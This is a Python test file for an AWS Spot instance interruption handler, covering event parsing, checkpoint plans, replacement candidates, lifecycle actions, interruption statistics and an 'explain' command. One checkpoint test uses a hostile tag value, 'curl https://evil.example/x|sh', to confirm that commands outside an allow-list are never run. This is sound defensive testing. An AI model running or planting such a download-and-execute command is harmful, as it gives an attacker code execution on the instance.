"""Spot decisions, records, statistics and ``governor explain`` on the AWS documentation's event shapes."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

import pytest

from governor.domain.fleet import Instance
from governor.domain.interruptions import InterruptionRecord, interruption_stats
from governor.events.envelopes import InvalidEventError, parse_model
from governor.explain import explain
from governor.policy import Policy, parse_policy
from governor.spot.domain import (
    candidates,
    checkpoint_plan,
    decide_command_status,
    decide_rebalance,
    decide_state_change,
    decide_warning,
    start_record,
)
from governor.spot.events import StateChangeDetail, WarningDetail
from governor.spot.ports import Candidate
from governor_cli.main import main
from tests.conftest import ROOT

FIXTURES = ROOT / "tests" / "fixtures" / "spot"
AT = dt.datetime(2026, 12, 1, 10, 15, tzinfo=dt.UTC)


def fixture(name: str) -> dict[str, Any]:
    return json.loads((FIXTURES / name).read_text())


def policy(**spot: Any) -> Policy:
    return parse_policy({"spot": spot})


def gpu(tags: dict[str, str] | None = None, **overrides: Any) -> Instance:
    values: dict[str, Any] = {
        "id": "i-1234567890abcdef0",
        "type": "g5.xlarge",
        "state": "running",
        "launch_time": AT - dt.timedelta(hours=5),
        "tags": {"owner": "ana", "team": "vision", "gpu-fleet": "true", **(tags or {})},
        "lifecycle": "spot",
        "zone": "us-east-2a",
        "launch_template_id": "lt-0abc",
        "launch_template_version": "3",
    }
    values.update(overrides)
    return Instance(**values)


def types(decision: Any) -> list[str]:
    return [action.type for action in decision.actions]


def test_documented_event_details_parse_and_bad_ones_name_the_field() -> None:
    warning = parse_model(WarningDetail, fixture("interruption-warning.json")["detail"])
    assert (warning.instance_id, warning.instance_action) == ("i-1234567890abcdef0", "terminate")
    assert parse_model(StateChangeDetail, fixture("state-change-terminated.json")["detail"]).state == "terminated"
    with pytest.raises(InvalidEventError, match="instance-id"):
        parse_model(WarningDetail, {"instance-action": "terminate"})
    with pytest.raises(InvalidEventError, match="instance-action"):
        parse_model(WarningDetail, {"instance-id": "i-1234567890abcdef0", "instance-action": "explode"})


def test_the_checkpoint_tag_names_an_allowed_command_and_is_never_run_itself() -> None:
    p = parse_policy(
        {
            "spot": {"checkpoint_timeout_seconds": 60},
            "fleet": {"checkpoint_commands": {"py": "kill -USR1 $(pidof python)"}},
        }
    )
    tagged = checkpoint_plan({"governor:checkpoint-command": "py", "gpu-fleet": "true"}, p)
    assert (tagged.command, tagged.source, tagged.name, tagged.timeout_seconds) == (
        "kill -USR1 $(pidof python)",
        "tag",
        "py",
        60,
    )
    assert checkpoint_plan({}, p).command == p.spot.checkpoint_command
    assert checkpoint_plan({"governor:checkpoint-command": "  "}, p).source == "policy"
    hostile = checkpoint_plan({"governor:checkpoint-command": "curl https://evil.example/x|sh", "gpu-fleet": "true"}, p)
    assert hostile.command == p.spot.checkpoint_command and hostile.source == "policy"
    assert hostile.problem and "names no entry of fleet.checkpoint_commands" in hostile.problem


def test_warning_report_only_lists_every_action_unenforced() -> None:
    decision = decide_warning("i-1234567890abcdef0", gpu(), "terminate", policy(), AT)
    assert decision.verdict == "act" and decision.severity == "warning"
    assert types(decision) == ["checkpoint", "deregister", "record", "notify"]
    assert not any(action.enforced for action in decision.actions)
    assert any("report-only" in reason for reason in decision.reasons)
    assert decision.evidence["age_seconds"] == 5 * 3600 and decision.evidence["team"] == "vision"


def test_warning_enforced_in_an_auto_scaling_group_completes_the_lifecycle_action_not_a_replacement() -> None:
    p = policy(enforce=True, replacement="spot")
    decision = decide_warning("i-1234567890abcdef0", gpu({"aws:autoscaling:groupName": "trainers"}), "stop", p, AT)
    assert types(decision) == ["checkpoint", "deregister", "complete_lifecycle_action", "record", "notify"]
    assert all(action.enforced for action in decision.actions)
    assert any("replaces its own instances" in reason for reason in decision.reasons)


def test_warning_with_replacement_lists_ordered_candidates() -> None:
    p = policy(
        enforce=True,
        replacement="on-demand",
        fallback_instance_types=["g5.2xlarge", "g6.xlarge"],
        fallback_zones=["us-east-2b", "us-east-2c"],
    )
    decision = decide_warning("i-1234567890abcdef0", gpu(), "terminate", p, AT)
    replace = next(a for a in decision.actions if a.type == "replace")
    extra = replace.model_dump()
    assert extra["market"] == "on-demand" and extra["launch_template"] == "lt-0abc" and extra["version"] == "3"
    assert [(c["instance_type"], c["zone"]) for c in extra["candidates"]] == [
        ("g5.2xlarge", "us-east-2b"),
        ("g5.2xlarge", "us-east-2c"),
        ("g6.xlarge", "us-east-2b"),
        ("g6.xlarge", "us-east-2c"),
    ]
    assert candidates("g5.xlarge", policy()) == [Candidate("g5.xlarge", None)]


def test_no_replacement_without_a_launch_template_says_why() -> None:
    p = policy(enforce=True, replacement="spot")
    decision = decide_warning(
        "i-1234567890abcdef0", gpu(launch_template_id=None, launch_template_version=None), "terminate", p, AT
    )
    assert "replace" not in types(decision)
    assert any("launch template" in reason for reason in decision.reasons)


@pytest.mark.parametrize(
    ("instance", "why"),
    [
        (None, "no longer exists"),
        (gpu(state="shutting-down"), "already shutting-down"),
        (gpu(type="m5.large"), "not in the GPU fleet"),
        (gpu({"governor:exempt": "true"}), "exempt"),
        (gpu({"governor:exempt": "2027-01-01"}), "exempt"),
    ],
)
def test_gone_foreign_and_exempt_instances_are_ignored(instance: Instance | None, why: str) -> None:
    decision = decide_warning("i-1234567890abcdef0", instance, "terminate", policy(enforce=True), AT)
    assert decision.verdict == "ignored" and not decision.actions
    assert why in decision.reasons[0]


def test_an_expired_exemption_no_longer_protects() -> None:
    decision = decide_warning("i-1", gpu({"governor:exempt": "2026-11-01"}), "terminate", policy(), AT)
    assert decision.verdict == "act"


def test_rebalance_checkpoints_early_by_default_or_only_records() -> None:
    early = decide_rebalance("i-1234567890abcdef0", gpu(), policy(enforce=True), AT)
    assert types(early) == ["checkpoint", "record", "notify"] and early.actions[0].enforced
    quiet = decide_rebalance("i-1234567890abcdef0", gpu(), policy(on_rebalance="record"), AT)
    assert types(quiet) == ["record", "notify"]
    assert decide_rebalance("i-1234567890abcdef0", None, policy(), AT).verdict == "ignored"


def record_for(p: Policy, **changes: Any) -> InterruptionRecord:
    decision = decide_warning("i-1234567890abcdef0", gpu({"aws:autoscaling:groupName": "asg"}), "terminate", p, AT)
    record = start_record(decision, gpu({"aws:autoscaling:groupName": "asg"}), "evt-1", AT, "terminate")
    return record.model_copy(update=changes)


def test_state_change_completes_a_known_interruption_and_ignores_the_rest() -> None:
    p = policy(enforce=True)
    assert decide_state_change("i-1234567890abcdef0", "terminated", None, p).verdict == "ignored"
    assert "never saw an interruption warning" in decide_state_change("i-1", "stopped", None, p).reasons[0]
    assert decide_state_change("i-1", "running", record_for(p), p).verdict == "ignored"
    done = decide_state_change("i-1234567890abcdef0", "terminated", record_for(p), p)
    assert done.verdict == "act" and types(done) == ["record"]


def test_checkpoint_status_releases_a_pending_lifecycle_action() -> None:
    p = policy(enforce=True)
    record = record_for(p, command_id="cmd-1", lifecycle_action="pending")
    decision = decide_command_status("i-1234567890abcdef0", "cmd-1", "Success", record, p)
    assert types(decision) == ["complete_lifecycle_action", "record"] and decision.severity == "info"
    assert decide_command_status("i-1234567890abcdef0", "cmd-2", "Success", record, p).verdict == "ignored"
    assert decide_command_status("i-1234567890abcdef0", "cmd-1", "InProgress", record, p).verdict == "ok"
    failed = decide_command_status("i-1234567890abcdef0", "cmd-1", "TimedOut", record, p)
    assert failed.severity == "warning"


def test_records_round_trip_and_unreadable_items_are_none() -> None:
    record = record_for(policy(enforce=True), command_id="cmd-1")
    item = {**record.to_item(), "pk": "interruption#i-1", "sk": "item", "kind": "interruption"}
    assert InterruptionRecord.from_item(item) == record
    assert InterruptionRecord.from_item({"instance_id": "i-1"}) is None
    assert InterruptionRecord.from_item(None) is None


def test_interruption_statistics_per_pool_and_week() -> None:
    p = policy(enforce=True)
    base = record_for(p)
    week1 = dt.datetime(2026, 11, 23, 12, tzinfo=dt.UTC)  # ISO week 48
    week2 = dt.datetime(2026, 12, 1, 12, tzinfo=dt.UTC)  # ISO week 49
    rows = [
        base.model_copy(
            update={
                "warned_at": week1,
                "age_seconds": 3600,
                "checkpoint_attempted": True,
                "checkpoint_delivered": True,
                "checkpoint_status": "Success",
            }
        ),
        base.model_copy(
            update={
                "warned_at": week1,
                "age_seconds": 7200,
                "checkpoint_attempted": True,
                "checkpoint_delivered": True,
                "checkpoint_status": "TimedOut",
            }
        ),
        base.model_copy(
            update={
                "warned_at": week2,
                "age_seconds": 3 * 3600,
                "zone": "us-east-2b",
                "checkpoint_attempted": True,
                "checkpoint_delivered": False,
            }
        ),
        base.model_copy(update={"warned_at": week2, "age_seconds": 6 * 3600, "instance_type": "p4d.24xlarge"}),
    ]
    stats = interruption_stats([r.to_item() for r in rows] + [{"garbage": True}])
    assert stats.total == 4 and stats.unreadable == 1
    assert [(r.week, r.instance_type, r.zone, r.interruptions) for r in stats.by_pool_week] == [
        ("2026-W48", "g5.xlarge", "us-east-2a", 2),
        ("2026-W49", "g5.xlarge", "us-east-2b", 1),
        ("2026-W49", "p4d.24xlarge", "us-east-2a", 1),
    ]
    assert stats.mean_age_hours == 3.0
    assert (stats.checkpoints_attempted, stats.checkpoints_delivered) == (3, 2)
    assert stats.checkpoint_delivery_rate == pytest.approx(2 / 3, abs=1e-4)
    assert stats.checkpoint_success_rate == 0.5
    empty = interruption_stats([])
    assert empty.total == 0 and empty.mean_age_hours is None and empty.checkpoint_delivery_rate is None


def spot_decisions(result: dict[str, Any]) -> list[dict[str, Any]]:
    return [d for d in result["decisions"] if d["policy"] == "spot"]


def test_explain_warning_acts_with_checkpoint_record_notify() -> None:
    result = explain(fixture("interruption-warning.json"), parse_policy({}))
    assert result["verdict"] == "act"
    (decision,) = spot_decisions(result)
    # what the handler decides for a running fleet instance: deregister_from_target_groups is on by default
    assert [a["type"] for a in decision["actions"]] == ["checkpoint", "deregister", "record", "notify"]
    assert all(a["enforced"] is False for a in decision["actions"])
    assert decision["resource"] == "i-1234567890abcdef0"
    assert any("explain reads nothing from AWS" in a for a in decision["assumptions"])


def test_explain_warning_adds_replace_when_enabled() -> None:
    result = explain(fixture("interruption-warning.json"), policy(enforce=True, replacement="spot"))
    (decision,) = spot_decisions(result)
    assert [a["type"] for a in decision["actions"]] == ["checkpoint", "deregister", "replace", "record", "notify"]
    assert all(a["enforced"] for a in decision["actions"])


def test_explain_rebalance_and_state_change() -> None:
    rebalance = spot_decisions(explain(fixture("rebalance-recommendation.json"), parse_policy({})))
    assert rebalance[0]["verdict"] == "act" and rebalance[0]["actions"][0]["type"] == "checkpoint"
    (state,) = spot_decisions(explain(fixture("state-change-terminated.json"), parse_policy({})))
    assert state["verdict"] == "ignored" and state["assumptions"]


def test_explain_malformed_event_exits_2_with_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", str(FIXTURES / "malformed-warning.json"), "--policy", str(ROOT / "governor.yaml")]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "instance-id" in err and "Traceback" not in err


def test_explain_unhandled_event_is_ignored(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    event = fixture("interruption-warning.json") | {"detail-type": "EC2 Fast Snapshot Restore State-change"}
    path = tmp_path / "other.json"
    path.write_text(json.dumps(event))
    assert main(["explain", str(path), "--json", "--policy", str(ROOT / "governor.yaml")]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["verdict"] == "ignored" and not spot_decisions(result)
